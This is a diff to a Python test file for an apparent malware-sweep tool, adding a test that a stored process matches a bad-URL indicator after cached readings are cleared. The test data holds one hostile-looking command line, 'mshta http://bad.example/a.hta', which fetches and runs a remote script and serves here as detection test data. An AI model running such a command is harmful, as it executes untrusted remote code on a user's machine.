@@ -1,5 +1,6 @@
 """The state of each computer from a real store: over several sweeps, lists and playbooks."""
 
+import sqlite3
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -39,7 +40,7 @@ OTHER = "1a" * 32
 @pytest.fixture
 def store(tmp_path: Path) -> Iterator[Store]:
     with Ledger.open(tmp_path / "lamsach.db") as ledger:
-        yield Store(ledger)
+        yield Store(ledger, tmp_path / "lamsach.db")
 
 
 def test_two_dry_runs_never_make_an_infected_computer_cleaned(store: Store) -> None:
@@ -233,6 +234,21 @@ def test_another_machine_begins_a_new_history_and_leaves_the_old_matters_open(st
     store.visit(files(), machine=replace(MACHINE, machine_id="m2"))
 
     assert (store.word(), store.state().replaced) == ("clean", (BAD_PATH,))
+
+
+def test_what_an_older_program_passed_over_in_a_text_is_met_without_a_new_visit(store: Store) -> None:
+    store.tasks = (PROCESSES,)
+    store.sweep("http://bad.example/a.hta")
+    row = a_process(command_line="mshta http://bad.example/a.hta")
+    look = a_whole_look(row)
+    old = tuple(each for each in look.observations if each.kind not in {Kind.URL, Kind.DOMAIN, Kind.NAME})
+    store.visit(replace(look, observations=old))
+    assert store.word() == "clean"
+
+    with sqlite3.connect(store.path) as database:
+        database.execute("UPDATE look SET reading = NULL")
+
+    assert store.word() == Reason.MATCH_FOUND
 
 
 # how answers become records
